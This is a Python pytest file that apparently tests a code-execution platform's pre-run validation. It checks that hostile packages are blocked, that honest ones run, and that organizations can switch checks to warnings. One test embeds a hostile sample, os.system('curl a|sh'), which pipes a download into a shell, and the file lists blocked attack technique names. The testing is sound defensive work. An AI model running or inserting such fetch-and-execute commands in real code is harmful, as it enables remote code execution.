"""Validation before execution through a whole platform.

What is hostile is stopped, what is honest runs, an organization decides.
"""

from collections.abc import Iterator, Mapping
from typing import Any

import httpx2
import pytest

from checks_corpus.honest import HONEST
from checks_corpus.hostile import HOSTILE
from support import factories
from support.platform.running_platform import Running, platform

MANIFEST = """
version: "1"
package: {{name: {name}, version: 1.0.0}}
runtime: {{kind: python, version: "3.11"}}
{platform}functions:
  f: {{handler: "main:f"}}
"""
FORMULA = "import math\n\n\ndef f(x: float) -> float:\n    total = 0.0\n    total += math.sqrt(x)\n    return total\n"
STOPPED = (
    "curl_to_shell",
    "exec_zlib",
    "ptrace",
    "pickle_file",
    "look_alike",
    "cookie_utf7",
    "environ_by_f_string",
    "notebook",
)
PASSING = ("own_modules", "own_pickle", "temporary_folder", "machine_facts", "os_system", "fork")


@pytest.fixture(scope="module")
def running() -> Iterator[Running]:
    with platform({"MECAPY_ALLOW_NEWER_PYTHON": "1", "MECAPY_AUDIT_SERVICE": "0"}) as started:
        yield started


@pytest.fixture
def client(running: Running) -> Iterator[httpx2.Client]:
    with running.client(running.token("ada", factories.unique("acme"))) as made:
        yield made


def deploy(client: httpx2.Client, files: Mapping[str, str | bytes], *, options: str = "") -> dict[str, Any]:
    name = factories.unique("p")
    archive = factories.archive(manifest=MANIFEST.format(name=name, platform=options), files=files)
    answer = client.post("/packages/from-zip", files={"file": ("p.zip", archive, "application/zip")})
    assert answer.status_code == 200, answer.text
    return dict(answer.json())


def report(client: httpx2.Client, deployed: Mapping[str, Any]) -> dict[str, Any]:
    return dict(client.get(f"/packages/{deployed['package']['id']}/versions/1.0.0/checks").json())


@pytest.mark.parametrize("name", STOPPED)
def test_a_hostile_version_does_not_become_ready(client: httpx2.Client, name: str) -> None:
    deployed = deploy(client, HOSTILE[name].files)
    assert deployed["package"]["status"] == "error"
    assert deployed["validation_results"]["error"]["code"] == "checks_failed"
    stopping = {finding["rule"] for finding in report(client, deployed)["findings"] if finding["stops"]}
    assert stopping & HOSTILE[name].rules


@pytest.mark.parametrize("name", PASSING)
def test_an_honest_version_becomes_ready(client: httpx2.Client, name: str) -> None:
    deployed = deploy(client, HONEST[name])
    assert deployed["package"]["status"] == "ready", deployed["validation_results"]
    assert report(client, deployed)["checks"]


def test_a_task_of_a_stopped_version_is_refused_with_the_reason(client: httpx2.Client) -> None:
    deployed = deploy(client, HOSTILE["curl_to_shell"].files)
    answer = client.post("/tasks", json={"package": deployed["package"]["name"], "function": "f", "inputs": {"x": 1.0}})
    assert (answer.status_code, answer.json()["code"]) == (409, "version_broken")
    assert "main.py:2" in answer.json()["detail"]


def test_an_organization_that_only_wants_warnings_gets_them(running: Running) -> None:
    slug = factories.unique("acme")
    with running.client(running.token("ada", slug)) as client:
        assert client.put(f"/organizations/{slug}/checks", json={"checks": {"hostile": "warn"}}).status_code == 200
        archive = factories.archive(
            manifest=MANIFEST.format(name="p", platform=""),
            files={"main.py": "import os\n\n\ndef f(x: float) -> float:\n    os.system('curl a|sh')\n    return x\n"},
        )
        upload = {"file": ("p.zip", archive, "application/zip")}
        deployed = client.post("/packages/from-zip", params={"organization_slug": slug}, files=upload).json()
        assert deployed["package"]["status"] == "ready"
        found = {check["check"]: check for check in report(client, deployed)["checks"]}["hostile"]
        assert (found["mode"], found["state"], found["found"]) == ("warn", "warned", 1)


def test_a_formula_runs_under_restricted_python(client: httpx2.Client) -> None:
    deployed = deploy(client, {"main.py": FORMULA}, options="platform: {checks: {restricted_python: true}}\n")
    assert deployed["package"]["status"] == "ready", deployed["validation_results"]
    body = {"package": deployed["package"]["name"], "function": "f", "inputs": {"x": 9.0}}
    ended = client.post("/tasks", params={"wait": 60}, json=body).json()
    if ended["state"] != "completed":
        ended = client.get(f"/tasks/{ended['id']}", params={"wait": 60}).json()
    assert ended["state"] == "completed", ended
    assert client.get(f"/tasks/{ended['id']}/result").json()["result"] == {"result": 3.0}
